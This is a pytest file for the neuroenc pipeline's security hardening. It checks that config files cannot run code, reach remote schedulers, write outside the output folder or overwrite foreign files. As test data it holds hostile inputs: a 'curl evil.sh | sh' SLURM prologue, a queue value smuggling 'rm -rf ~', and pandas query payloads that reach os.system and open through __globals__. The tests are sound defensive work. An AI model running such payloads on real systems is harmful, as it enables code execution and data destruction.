"""Issue 13, items 1-3, and issue 18, items 1 and 3: a config file runs no code, reaches no
remote scheduler and writes nowhere outside its output folder unless the user says so
(``--allow-code``, ``NEUROENC_ALLOW_CODE=1``, the command line); a query is data, not code; a
run never replaces a file that neuroenc did not write."""
from __future__ import annotations

import logging
import os
import re
import shutil
import subprocess
import textwrap
from pathlib import Path

import pandas as pd
import pytest
from _hardening_fixtures import snapshot, write_events_stimuli

from neuroenc.cli import main as cli_main
from neuroenc.pipeline import ConfigError, load_config, run_pipeline
from neuroenc.pipeline.config import config_from_dict
from neuroenc.pipeline.loaders import check_loader, get_loader, load_dataset
from neuroenc.pipeline.trust import cache_dir, check_trust, code_allowed, output_dir, report_path


@pytest.fixture(autouse=True)
def _no_opt_in(monkeypatch):
    monkeypatch.delenv("NEUROENC_ALLOW_CODE", raising=False)


def _yaml(tmp_path: Path, text: str, name: str = "shared.yaml") -> Path:
    path = tmp_path / name
    path.write_text(textwrap.dedent(text), encoding="utf-8")
    return path


# ----------------------------------------------------------------------------- item 1: loaders
def test_config_cannot_run_a_function_as_loader(tmp_path, capsys):
    marker = tmp_path / "owned"
    path = _yaml(tmp_path, f"""
        dataset:
          loader: "os:system"
          args: {{command: "touch {marker}"}}
        output: {{dir: {tmp_path / 'out'}}}
    """)
    with pytest.raises(ConfigError, match=(
            r"dataset.loader in '.*shared.yaml' is 'os:system', a Python function named by the config: "
            r"loading it runs code of the config's choosing\. Use a registered loader \(\['alice', .*\]\) "
            r"or one a package declares in the entry-point group 'neuroenc.loaders'; or, if you trust "
            r"this config, pass --allow-code")):
        run_pipeline(path, verbose=False)
    assert cli_main(["-q", "run", str(path)]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "--allow-code" in err and "NEUROENC_ALLOW_CODE=1" in err and "allow_code" not in err
    assert not marker.exists() and not (tmp_path / "out").exists()


def test_opt_in_allows_a_function_and_logs_it(monkeypatch, caplog):
    with pytest.raises(ConfigError, match="a Python function named by the config"):
        get_loader("neuroenc.datasets.alice:load_alice")
    with caplog.at_level(logging.WARNING, logger="neuroenc"):
        fn = get_loader("neuroenc.datasets.alice:load_alice", allow_code=True)
    from neuroenc.datasets import load_alice

    assert fn is load_alice
    assert "importing and running the data-set loader 'neuroenc.datasets.alice:load_alice'" in caplog.text
    assert not code_allowed()
    monkeypatch.setenv("NEUROENC_ALLOW_CODE", "1")
    assert code_allowed() and check_loader("neuroenc.datasets.alice:load_alice") == "code"
    assert get_loader("alice") is load_alice  # registered names need nothing


def test_loader_declared_by_an_entry_point(tmp_path, monkeypatch, data_dir):
    """A package declares a loader in the entry-point group 'neuroenc.loaders': no opt-in."""
    (tmp_path / "mylab_loaders.py").write_text(textwrap.dedent("""
        from neuroenc.datasets import load_alice

        def load_mylab(**kwargs):
            dataset = load_alice(**kwargs)
            dataset.name = "mylab"
            return dataset
    """))
    info = tmp_path / "mylab-0.1.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: mylab\nVersion: 0.1\n")
    (info / "entry_points.txt").write_text("[neuroenc.loaders]\nmylab = mylab_loaders:load_mylab\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    assert check_loader("mylab") == "entry point"
    config = config_from_dict({"dataset": {"loader": "mylab", "subjects": ["s18"],
                                           "args": {"data_dir": str(data_dir), "download": False}}})
    assert load_dataset(config.dataset).name == "mylab"
    with pytest.raises(ConfigError, match=r"Unknown data-set loader 'mylabb'. Loaders are \[.*'mylab'"):
        get_loader("mylabb")


SLURM = {"cores": 4, "memory": "8GB", "jobs": 1}


def test_slurm_shell_code_needs_the_opt_in_from_a_config_file(tmp_path, caplog):
    pytest.importorskip("dask_jobqueue")
    path = _yaml(tmp_path, """
        dataset: {loader: alice}
        executor:
          kind: slurm
          slurm: {cores: 4, memory: 8GB, jobs: 1, job_script_prologue: ["curl evil.sh | sh"]}
    """)
    with pytest.raises(ConfigError, match=(
            r"executor.slurm.job_script_prologue in '.*shared.yaml' is shell code that every SLURM job "
            r"would run \(\['curl evil.sh \| sh'\]\)\. A config file cannot run code unless you opt in")):
        check_trust(load_config(path))
    with pytest.raises(ConfigError, match="is shell code"):
        run_pipeline(path, verbose=False)  # before anything is loaded or submitted
    # the same value given on the command line (--set) is the user's own
    check_trust(load_config(path, overrides={"executor.slurm.job_script_prologue": ["module load cuda"]}))
    config = load_config(path)
    config.allow_code = True
    with caplog.at_level(logging.WARNING, logger="neuroenc"):
        check_trust(config)
    assert "executor.slurm.job_script_prologue from" in caplog.text and "curl evil.sh | sh" in caplog.text
    # a value that would end its #SBATCH line and start a command
    bad = _yaml(tmp_path, """
        dataset: {loader: alice}
        executor: {kind: slurm, slurm: {cores: 4, memory: 8GB, jobs: 1, queue: "gpu\\nrm -rf ~"}}
    """, "bad.yaml")
    with pytest.raises(ConfigError, match=r"executor.slurm.queue in '.*bad.yaml' is 'gpu\\nrm -rf ~': its "
                                          r"'\\n' would end the job script's line"):
        check_trust(load_config(bad))


def test_slurm_prologue_is_printed_before_submitting(caplog):
    pytest.importorskip("dask_jobqueue")
    from neuroenc.pipeline.dask_cluster import slurm_cluster

    with caplog.at_level(logging.INFO, logger="neuroenc"):
        cluster = slurm_cluster({**SLURM, "job_script_prologue": ["module load cuda"],
                                 "scheduler_options": {"host": "127.0.0.1"}}, scale=False)
        cluster.close()
    assert ("every SLURM job runs this shell code from executor.slurm: job_script_prologue: "
            "['module load cuda']") in caplog.text
    assert "SLURM job script:\n#!/usr/bin/env bash" in caplog.text and "module load cuda\n" in caplog.text


# ----------------------------------------------------------------------------- item 2: Dask
@pytest.mark.parametrize("executor", [
    "{kind: 'dask:tcp://10.0.0.5:8786'}",
    "{kind: dask, address: 'tls://scheduler.lab.org:8786'}",
])
def test_config_file_cannot_name_a_remote_scheduler(tmp_path, executor, capsys):
    path = _yaml(tmp_path, f"dataset: {{loader: alice}}\nexecutor: {executor}\n")
    with pytest.raises(ConfigError, match=(
            r"in '.*shared.yaml' names the Dask scheduler '(tcp://10.0.0.5|tls://scheduler.lab.org):8786' on "
            r"another machine\. A Dask client runs what its scheduler sends .* Give the address on the "
            r"command line instead \(neuroenc run CONFIG --executor dask:")):
        run_pipeline(path, verbose=False)  # refused before any connection is tried
    assert cli_main(["-q", "run", str(path)]) == 1
    assert "--allow-code" in capsys.readouterr().err
    # from the command line, or with the opt-in, the address is taken
    check_trust(load_config(path, overrides={"executor.kind": "dask:tcp://10.0.0.5:8786", "executor.address": None}))
    config = load_config(path)
    config.allow_code = True
    check_trust(config)


def test_loopback_scheduler_from_a_config_file_is_fine(tmp_path):
    for address in ("tcp://127.0.0.1:8786", "tcp://localhost:8786", "tcp://[::1]:8786"):
        check_trust(load_config(_yaml(tmp_path, f"dataset: {{loader: alice}}\nexecutor: {{kind: 'dask:{address}'}}\n")))


def test_plain_tcp_to_another_machine_warns(caplog):
    from neuroenc.pipeline.dask_cluster import warn_if_exposed

    with caplog.at_level(logging.WARNING, logger="neuroenc"):
        warn_if_exposed("tcp://127.0.0.1:8786")
        warn_if_exposed("tls://10.0.0.5:8786")
        assert caplog.text == ""
        warn_if_exposed("tcp://10.0.0.5:8786")
    assert ("the Dask scheduler tcp://10.0.0.5:8786 is reached over plain tcp:// on another machine: "
            "unencrypted and unauthenticated") in caplog.text and "tls://" in caplog.text


def test_security_section_maps_to_dask_security(tmp_path):
    from distributed.security import Security

    from neuroenc.pipeline.dask_cluster import make_security

    certs = tmp_path / "certs"
    certs.mkdir()
    for name in ("ca.pem", "client.pem", "client.key"):
        (certs / name).write_text("PEM")
    path = _yaml(tmp_path, """
        dataset: {loader: alice}
        executor:
          kind: dask
          address: tls://127.0.0.1:8786
          security: {tls_ca_file: certs/ca.pem, tls_client_cert: certs/client.pem,
                     tls_client_key: certs/client.key}
    """)
    config = load_config(path)
    sec = make_security(config.executor.security, config.executor.address, resolve=config.resolve)
    assert isinstance(sec, Security)
    assert (sec.tls_ca_file, sec.tls_client_cert, sec.tls_client_key) == (
        str(certs / "ca.pem"), str(certs / "client.pem"), str(certs / "client.key"))
    assert sec.require_encryption is True
    assert make_security({}, "tcp://127.0.0.1:1") is None
    sec = make_security({"tls_ca_file": str(certs / "ca.pem"), "require_encryption": False}, "tls://h:1")
    assert sec.require_encryption is False
    with pytest.raises(ConfigError, match=r"unknown option executor.security.tls_ca; did you mean "
                                          r"executor.security.tls_ca_file\?"):
        make_security({"tls_ca": "x"}, "tls://h:1")
    with pytest.raises(ConfigError, match=r"certificates need a tls:// address"):
        make_security({"tls_ca_file": str(certs / "ca.pem")}, "tcp://10.0.0.5:8786")
    with pytest.raises(ConfigError, match=r"executor.security.tls_client_cert: certificate file not found: "
                                          r"'.*missing.pem'"):
        make_security({"tls_client_cert": str(certs / "missing.pem")}, "tls://h:1")
    with pytest.raises(ConfigError, match=r"executor.security applies to a dask: tls:// scheduler"):
        from neuroenc.pipeline.distributed import run_distributed

        run_distributed(config_from_dict({"dataset": {"loader": "alice"}, "executor": {
            "kind": "local:1", "security": {"tls_ca_file": "x"}}}), verbose=False)


def _certificates(folder: Path) -> dict[str, str]:
    """A certificate authority and one certificate for 127.0.0.1 it signed (openssl)."""
    def run(*args):
        subprocess.run(["openssl", *args], cwd=folder, check=True, capture_output=True)

    (folder / "san.ext").write_text("subjectAltName=IP:127.0.0.1\n")
    run("req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", "ca.key", "-out", "ca.pem",
        "-days", "1", "-subj", "/CN=neuroenc-test-ca")
    run("req", "-newkey", "rsa:2048", "-nodes", "-keyout", "node.key", "-out", "node.csr",
        "-subj", "/CN=127.0.0.1")
    run("x509", "-req", "-in", "node.csr", "-CA", "ca.pem", "-CAkey", "ca.key", "-CAcreateserial",
        "-out", "node.pem", "-days", "1", "-extfile", "san.ext")
    return {"ca": str(folder / "ca.pem"), "cert": str(folder / "node.pem"), "key": str(folder / "node.key")}


def test_tls_scheduler_on_loopback(tmp_path):
    """A real tls:// scheduler on 127.0.0.1: executor.security's certificates reach it."""
    if shutil.which("openssl") is None:
        pytest.skip("needs the openssl command to make certificates")
    from distributed import LocalCluster
    from distributed.security import Security

    from neuroenc.pipeline.config import ExecutorConfig
    from neuroenc.pipeline.dask_cluster import connect

    c = _certificates(tmp_path)
    server = Security(tls_ca_file=c["ca"], tls_scheduler_cert=c["cert"], tls_scheduler_key=c["key"],
                      tls_worker_cert=c["cert"], tls_worker_key=c["key"], tls_client_cert=c["cert"],
                      tls_client_key=c["key"], require_encryption=True)
    with LocalCluster(n_workers=1, threads_per_worker=1, processes=False, protocol="tls://",
                      host="127.0.0.1", security=server, dashboard_address=None) as cluster:
        address = cluster.scheduler_address
        assert address.startswith("tls://127.0.0.1:")
        executor = ExecutorConfig(kind=f"dask:{address}", security={
            "tls_ca_file": c["ca"], "tls_client_cert": c["cert"], "tls_client_key": c["key"]})
        with connect(executor, timeout=20) as client:
            assert client.submit(sum, [1, 2, 3]).result(timeout=20) == 6


# ----------------------------------------------------------------------------- item 3: outputs
@pytest.mark.parametrize("report, match", [
    ("../x.html", r"output.report in '.*shared.yaml' is '../x.html', which leaves the output folder"),
    ("sub/../../x.html", r"which leaves the output folder"),
    ("/tmp/x.html", r"output.report in '.*shared.yaml' is the absolute path '/tmp/x.html': a config file "
                    r"writes only inside output.dir"),
])
def test_config_file_report_stays_in_the_output_folder(tmp_path, report, match, capsys, monkeypatch):
    monkeypatch.chdir(tmp_path)
    path = _yaml(tmp_path, f"dataset: {{loader: alice}}\noutput: {{dir: out, report: '{report}'}}\n")
    with pytest.raises(ConfigError, match=match):
        run_pipeline(path, verbose=False)
    assert cli_main(["-q", "run", str(path)]) == 1
    assert "--set output.report=" in capsys.readouterr().err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["shared.yaml"]  # nothing written


def test_output_paths_inside_or_from_the_command_line(tmp_path):
    path = _yaml(tmp_path, "dataset: {loader: alice}\noutput: {dir: out, report: maps/report.html}\n")
    config = load_config(path)
    assert report_path(config) == Path("out") / "maps" / "report.html"
    assert cache_dir(config) == Path("out") / "cache"
    # absolute paths given on the command line (--set, --out) are the user's own
    given = load_config(path, overrides={"output.report": str(tmp_path / "elsewhere.html"),
                                         "output.cache_dir": str(tmp_path / "shared-cache")})
    assert report_path(given) == tmp_path / "elsewhere.html"
    assert cache_dir(given) == tmp_path / "shared-cache"
    # from the file, the cache stays below the config's folder
    assert cache_dir(load_config(_yaml(tmp_path, "dataset: {loader: alice}\noutput: {cache_dir: fc}\n",
                                       "c.yaml"))) == tmp_path / "fc"
    for value in ("../fc", "/tmp/fc"):
        bad = load_config(_yaml(tmp_path, f"dataset: {{loader: alice}}\noutput: {{cache_dir: '{value}'}}\n",
                                "bad.yaml"))
        with pytest.raises(ConfigError, match=rf"output.cache_dir in '.*bad.yaml' is '{value}', outside the "
                                              r"config file's folder"):
            check_trust(bad)
    for value in ("~/fc", "$HOME/fc", "fc-$USER"):  # issue 18: no home folder, no variables
        bad = load_config(_yaml(tmp_path, f"dataset: {{loader: alice}}\noutput: {{cache_dir: '{value}'}}\n",
                                "bad.yaml"))
        with pytest.raises(ConfigError, match=rf"output.cache_dir in '.*bad.yaml' is '{re.escape(value)}': a "
                                              r"config file cannot name the home folder \(~\) or environment "
                                              r"variables .* \(--set output.cache_dir=/path/cache\)"):
            check_trust(bad)
    # a relative path from the command line still stays inside output.dir
    with pytest.raises(ConfigError, match="leaves the output folder"):
        report_path(load_config(path, overrides={"output.report": "../x.html"}))


# ============================================================================= issue 18
# ----------------------------------------------------------------------------- item 1: queries
def _payloads(marker: Path) -> list[str]:
    """Queries that pandas.DataFrame.query evaluated: one runs a shell command (os.system), one
    creates a file (open); each makes ``marker``."""
    reach = "onset.__class__.__init__.__globals__.get('sys').modules"
    return [f"{reach}.get('os').system('touch {marker}') == 0",
            f"sentence != {reach}.get('builtins').open('{marker}', 'w').name"]


@pytest.mark.parametrize("which", [0, 1])
def test_query_cannot_run_code(tmp_path, which):
    from neuroenc.datasets.stimuli import load_stimuli
    from neuroenc.stimuli import StimulusError, TranscriptError, read_events_tsv
    from neuroenc.stimuli.stimulus_set import read_stimuli_events

    args = write_events_stimuli(tmp_path / "data")
    marker = tmp_path / "owned"
    query = _payloads(marker)[which]
    before = snapshot(tmp_path)
    message = r"query .*onset.__class__.* at character \d+ \('.__class__.__init__....'\): unexpected '.' " \
              r"\(attributes, calls and variables are not part of a query\)\. Allowed: "
    with pytest.raises(TranscriptError, match=message + r".*\(events file '.*sub-01_task-read_events.tsv'\)"):
        read_events_tsv(args["path"], word_column="sentence", query=query)
    with pytest.raises(StimulusError, match=message):
        read_stimuli_events(args["path"], "sentence", query=query)
    with pytest.raises(ValueError, match=message):  # FilterError
        load_stimuli(**args, query=query)
    assert not marker.exists() and snapshot(tmp_path) == before


def _stimuli_config(folder: Path, args: dict, model: Path, name: str = "shared.yaml", **output) -> Path:
    """A run config of ``loader: stimuli`` (written with yaml.safe_dump: any query survives)."""
    import yaml

    values = {"name": "tiny-events", "dataset": {"loader": "stimuli", "group_mean": False, "args": args},
              "model": {"name": str(model), "pooling": "mean", "context": "group", "context_tokens": "full",
                        "prepend_bos": "auto"},
              "encoding": {"alphas": [1.0, 100.0], "cv": "group-kfold:3", "inner_cv": 2, "n_permutations": 9,
                           "baseline": ["length", "position"]},
              "output": {"dir": "out", **output}}
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text(yaml.safe_dump(values), encoding="utf-8")
    return path


def test_query_payload_through_neuroenc_run(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    marker = tmp_path / "owned"
    for query in _payloads(marker):
        args = {**write_events_stimuli(tmp_path / "data"), "query": query}
        path = _stimuli_config(tmp_path / "cfg", args, tmp_path / "no-model")
        before = snapshot(tmp_path)
        with pytest.raises(ValueError, match=r"unexpected '.' \(attributes, calls and variables"):  # FilterError
            run_pipeline(path, verbose=False)
        assert cli_main(["-q", "run", str(path)]) == 1
        err = capsys.readouterr().err
        assert err.startswith("neuroenc run: error: query ") and "Allowed: a query compares columns" in err
        assert not marker.exists() and snapshot(tmp_path) == before  # no output folder either


def test_valid_query_in_a_config_selects_rows(tmp_path):
    args = write_events_stimuli(tmp_path / "data")
    for query, ids in [("trial_type == 'sentence' and onset < 10", ["s01", "s02", "s03"]),
                       ("passage in ['p2', 'p6'] and not `id` == 's05'", ["s04", "s06", "s16", "s17", "s18"]),
                       ("onset >= 65", ["s17", "s18"])]:  # as numbers (as text, '9' >= '65')
        for file in args["responses"].values():  # one response per selected stimulus
            Path(file).write_text("id,lang\n" + "".join(f"{i},{k}.5\n" for k, i in enumerate(ids)))
        config = load_config(_stimuli_config(tmp_path / "cfg", {**args, "query": query}, tmp_path / "m"))
        dataset = load_dataset(config.dataset)  # one run, "stimuli": the stimulus set
        assert dataset.transcripts["stimuli"].ids == ids, query
        assert dataset.responses["A"]["stimuli"].data[:, 0].tolist() == [k + 0.5 for k in range(len(ids))]
    bad = load_config(_stimuli_config(tmp_path / "cfg", {**args, "query": "trial_type = 'sentence'"}, tmp_path / "m"))
    with pytest.raises(ValueError, match=r"query \"trial_type = 'sentence'\" at character 12 .*a single '=' "
                                         r"\(compare with ==\)"):
        load_dataset(bad.dataset)


# ----------------------------------------------------------------------------- item 3: outputs
@pytest.mark.parametrize("value, match", [
    ("{tmp}/abs", r"output.dir in '.*shared.yaml' is the absolute path '.*/abs': a config file writes only below "
               r"the working directory or its own folder\. Give a relative folder \(dir: results\), or pass the "
               r"folder on the command line \(--out /path/to/results\)"),
    ("~", r"output.dir in '.*shared.yaml' is '~': a config file cannot name the home folder \(~\) or "
          r"environment variables \(\$\.\.\.\), which would write outside its output folder"),
    ("~/results", r"is '~/results': a config file cannot name the home folder"),
    ("$HOME", r"is '\$HOME': a config file cannot name the home folder \(~\) or environment variables"),
    ("${HOME}/results", r"is '\$\{HOME\}/results': a config file cannot"),
    ("../elsewhere", r"output.dir in '.*shared.yaml' is '../elsewhere', which is not below the working directory "
                     r"'.*work' or the config file's folder '.*cfg': a config file writes only into a folder "
                     r"below them"),
    (".", r"is '.', which is not below the working directory"),
    ("sub/../..", r"which is not below the working directory"),
])
def test_config_file_output_dir_is_confined(tmp_path, monkeypatch, capsys, value, match):
    home, work = tmp_path / "home", tmp_path / "work"
    home.mkdir()
    work.mkdir()
    (home / ".bashrc").write_text("export PATH=$HOME/bin:$PATH\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.chdir(work)
    (tmp_path / "cfg").mkdir()
    value = value.replace("{tmp}", str(tmp_path))
    # a data set that is not there: without the check, the run would stop at loading it
    path = _yaml(tmp_path / "cfg", f"dataset: {{loader: alice, args: {{data_dir: '{tmp_path / 'none'}', "
                                   f"download: false}}}}\noutput: {{dir: '{value}', report: .bashrc}}\n")
    before = snapshot(tmp_path)
    with pytest.raises(ConfigError, match=match):
        run_pipeline(path, verbose=False)
    assert cli_main(["-q", "run", str(path)]) == 1
    assert "--out /path/to/results" in capsys.readouterr().err
    assert snapshot(tmp_path) == before
    # the same folder from the caller (--out, --set, overrides) is the user's own
    for given in (str(tmp_path / "x"), "~", "$HOME", "~/results"):
        config = load_config(path, overrides={"output.dir": given})
        assert output_dir(config) == Path(os.path.expandvars(given)).expanduser()
    # neuroenc run --out: past the output checks, the run stops at the data set that is not there
    assert cli_main(["-q", "run", str(path), "--out", str(tmp_path / "x"), "--set", "output.report=r.html"]) == 1
    err = capsys.readouterr().err
    assert "output.dir" not in err and "missing under" in err


def test_config_file_output_dir_below_the_config_or_the_working_directory(tmp_path, monkeypatch):
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    (tmp_path / "cfg").mkdir()
    for value, expected in [("out", Path("out")), ("a/b/../c", Path("a/b/../c")),
                            ("../cfg/out", Path("../cfg/out"))]:  # leaves the working directory, below the config's
        path = _yaml(tmp_path / "cfg", f"dataset: {{loader: alice}}\noutput: {{dir: '{value}'}}\n")
        assert output_dir(load_config(path)) == expected
        check_trust(load_config(path))
    # a link below the working directory that leads elsewhere leaves it
    (work / "link").symlink_to(tmp_path / "home", target_is_directory=True)
    path = _yaml(tmp_path / "cfg", "dataset: {loader: alice}\noutput: {dir: link/results}\n")
    with pytest.raises(ConfigError, match=r"is 'link/results', which is not below the working directory"):
        output_dir(load_config(path))
    # a config built in Python is the caller's own
    assert output_dir(config_from_dict({"dataset": {"loader": "alice"}, "output": {"dir": "/tmp/x"}})) == Path("/tmp/x")


def test_report_never_replaces_a_foreign_file(tmp_path, monkeypatch, capsys):
    from neuroenc._owned import ForeignFileError
    from neuroenc.report import make_report

    monkeypatch.chdir(tmp_path)
    out = tmp_path / "out"
    out.mkdir()
    bashrc = out / ".bashrc"
    bashrc.write_bytes(b"alias ls='ls --color'\n")
    path = _yaml(tmp_path, "dataset: {loader: alice}\noutput: {dir: out, report: .bashrc}\n")
    before = snapshot(tmp_path)
    message = (r"the report 'out/.bashrc' would replace a file that neuroenc did not write \(or that was changed "
               r"since\); neuroenc never replaces other files\. Choose another name or output folder, or remove "
               r"'out/.bashrc' if it is not needed\.")
    with pytest.raises(ForeignFileError, match=message):
        check_trust(load_config(path))
    with pytest.raises(ForeignFileError, match=message):
        run_pipeline(path, verbose=False)  # before anything is loaded
    assert cli_main(["-q", "run", str(path)]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "out/.bashrc" in err and "did not write" in err
    assert snapshot(tmp_path) == before
    # the report writer itself refuses it too, and a link to a file elsewhere
    from _mapping_fixtures import make_results

    results = make_results("s01")
    with pytest.raises(ForeignFileError, match=r"the report '.*\.bashrc' would replace a file"):
        make_report(results, bashrc, n_boot=20)
    (out / "link.html").symlink_to(tmp_path / "shared.yaml")
    with pytest.raises(ForeignFileError, match=r"the report '.*link.html' would replace a link that neuroenc"):
        make_report(results, out / "link.html", n_boot=20)
    (out / "link.html").unlink()
    assert snapshot(tmp_path) == before
    # its own report is replaced
    report = make_report(results, out / "report.html", n_boot=20)
    first = report.read_bytes()
    make_report(results, report, n_boot=20, title="again")
    assert report.read_bytes() != first and b"again" in report.read_bytes()


def test_tables_results_and_features_never_replace_foreign_files(tmp_path, caplog):
    import h5py
    import numpy as np
    from _mapping_fixtures import make_results

    from neuroenc._owned import MANIFEST, ForeignFileError, is_own_file
    from neuroenc.pipeline.output import write_tables

    folder = tmp_path / "tables"
    table = pd.DataFrame({"target": ["a"], "best_layer": [3]})
    written = write_tables(folder, None, table)
    assert sorted(p.name for p in folder.iterdir()) == sorted([MANIFEST, "group_mean_best_layers.csv"])
    assert is_own_file(written["group_mean_best_layers"])
    write_tables(folder, None, table.assign(best_layer=4))  # its own table: replaced
    assert pd.read_csv(written["group_mean_best_layers"])["best_layer"].tolist() == [4]
    # a table the user changed (or put there) is not neuroenc's any more
    written["group_mean_best_layers"].write_text("target,best_layer\na,7\n")
    with pytest.raises(ForeignFileError, match=r"the table '.*group_mean_best_layers.csv' would replace a file "
                                               r"that neuroenc did not write"):
        write_tables(folder, None, table)
    assert written["group_mean_best_layers"].read_text() == "target,best_layer\na,7\n"
    # nor a manifest that is not neuroenc's
    other = tmp_path / "other"
    other.mkdir()
    (other / MANIFEST).write_text('{"files": {"group_mean_best_layers.csv": "0"}}')
    with pytest.raises(ForeignFileError, match=r"manifest of neuroenc's files '.*\.neuroenc-files\.json'"):
        write_tables(other, None, table)
    assert sorted(p.name for p in other.iterdir()) == [MANIFEST]
    # results: an HDF5 file without neuroenc's format is refused; neuroenc's own is replaced
    results = make_results("s01")
    foreign = tmp_path / "sub-s01.h5"
    with h5py.File(foreign, "w") as f:
        f["data"] = np.arange(3)
    data = foreign.read_bytes()
    with pytest.raises(ForeignFileError, match=r"the results file '.*sub-s01.h5' would replace a file"):
        results.save(foreign)
    assert foreign.read_bytes() == data
    own = results.save(tmp_path / "own.h5") or tmp_path / "own.h5"
    results.save(own)
    assert is_own_file(own)
    # a truncated feature file of neuroenc's is still its own (the cache recomputes it)
    from neuroenc.features.featureset import FeatureSet, save_features

    fs = FeatureSet({0: np.ones((4, 2)), 1: np.zeros((4, 2))}, run="r1", model="m", n_model_layers=2,
                    onsets=np.arange(4.0), offsets=np.arange(4.0) + 0.5, words=list("abcd"))
    path = tmp_path / "features.h5"
    save_features(fs, path)
    whole = path.read_bytes()
    path.write_bytes(whole[: len(whole) // 2])
    assert is_own_file(path)
    save_features(fs, path)
    assert path.read_bytes()[:8] == whole[:8]
    # one cut before its format attribute: no HDF5 reader can open it, so it is replaced, with a warning
    path.write_bytes(whole[:200])
    with caplog.at_level(logging.WARNING, logger="neuroenc"):
        save_features(fs, path)
    assert f"{path} is an HDF5 file that cannot be read" in caplog.text and "replacing it" in caplog.text
    assert is_own_file(path) and len(path.read_bytes()) == len(whole)
    text = tmp_path / "notes.h5"
    text.write_text("my notes")
    with pytest.raises(ForeignFileError, match=r"the features file '.*notes.h5' would replace a file"):
        save_features(fs, text)
    assert text.read_text() == "my notes"


def test_a_rerun_replaces_its_own_outputs_and_nothing_else(tmp_path, monkeypatch, capsys):
    """neuroenc run twice into one folder (report, baselines.csv, results): the second run
    replaces neuroenc's own files; a foreign file where the report goes stops the run first."""
    from neuroenc.testing import tiny_llama

    tiny_llama(n_layer=2, path=tmp_path / "model")
    args = {**write_events_stimuli(tmp_path / "data"), "query": "trial_type == 'sentence' and onset > 0"}
    monkeypatch.chdir(tmp_path)
    path = _stimuli_config(tmp_path / "cfg", args, tmp_path / "model")
    assert cli_main(["-q", "run", str(path)]) == 0
    out = tmp_path / "out"
    report, baselines = out / "report.html", out / "baselines.csv"
    first = {p: p.read_bytes() for p in (report, baselines)}
    assert b'<meta name="generator" content="neuroenc' in first[report]
    assert cli_main(["-q", "run", str(path), "--set", "encoding.baseline=[length, position, surprisal]"]) == 0
    assert report.read_bytes() != first[report] and baselines.read_bytes() != first[baselines]
    assert pd.read_csv(baselines)["model"].tolist() == ["length", "position", "surprisal", "all baseline regressors"]
    capsys.readouterr()
    # a foreign file where a config puts its report
    (out / ".bashrc").write_text("export EDITOR=vi\n")
    bad = _stimuli_config(tmp_path / "cfg", args, tmp_path / "model", name="bad.yaml", report=".bashrc")
    before = snapshot(tmp_path)
    assert cli_main(["-q", "run", str(bad)]) == 1
    assert "the report 'out/.bashrc' would replace a file that neuroenc did not write" in capsys.readouterr().err
    assert snapshot(tmp_path) == before


def test_security_doc_examples_hold(tmp_path):
    """docs/security.md: its YAML loads as a config whose query selects what the text says, its
    error example is the error neuroenc gives, and its command lines are accepted."""
    import shlex

    import yaml

    from neuroenc.commands.run import parse_overrides
    from neuroenc.stimuli.filters import FilterError, parse_filter

    doc = (Path(__file__).resolve().parents[1] / "docs" / "security.md").read_text(encoding="utf-8")
    blocks = [textwrap.dedent(b) for b in re.findall(r"```yaml\n(.*?)\n\s*```", doc, re.S)]
    assert len(blocks) == 2
    assert yaml.safe_load(blocks[0])["dataset"]["loader"] == "stimuli"
    assert yaml.safe_load(blocks[1])["executor"]["address"] == "tls://10.0.0.5:8786"
    (tmp_path / "config.yaml").write_text(blocks[0], encoding="utf-8")
    config = load_config(tmp_path / "config.yaml")
    check_trust(config)
    args = write_events_stimuli(tmp_path / "data")
    table = pd.read_csv(args["path"], sep="\t", dtype=str, keep_default_na=False)
    chosen = table[parse_filter(config.dataset.args["query"]).rows(table)]
    assert chosen["id"].tolist() == [f"s{i:02d}" for i in range(4, 19)]  # sentences from onset 13 on
    example = re.search(r"```text\n(.*?)\.\.\.\n```", doc, re.S).group(1)
    query = re.match(r"query '(.*?)' at", example).group(1)
    with pytest.raises(FilterError) as err:
        parse_filter(query)
    assert str(err.value).startswith(example)
    lines = re.findall(r"^neuroenc run (shared\.yaml .*)$", doc, re.M)
    assert len(lines) == 2
    for line in lines:
        argv = shlex.split(line)
        overrides = parse_overrides([argv[2]] if argv[1] == "--set" else [], argv[2] if argv[1] == "--out" else None)
        path = _yaml(tmp_path, "dataset: {loader: alice}\n")
        check_trust(load_config(path, overrides=overrides))
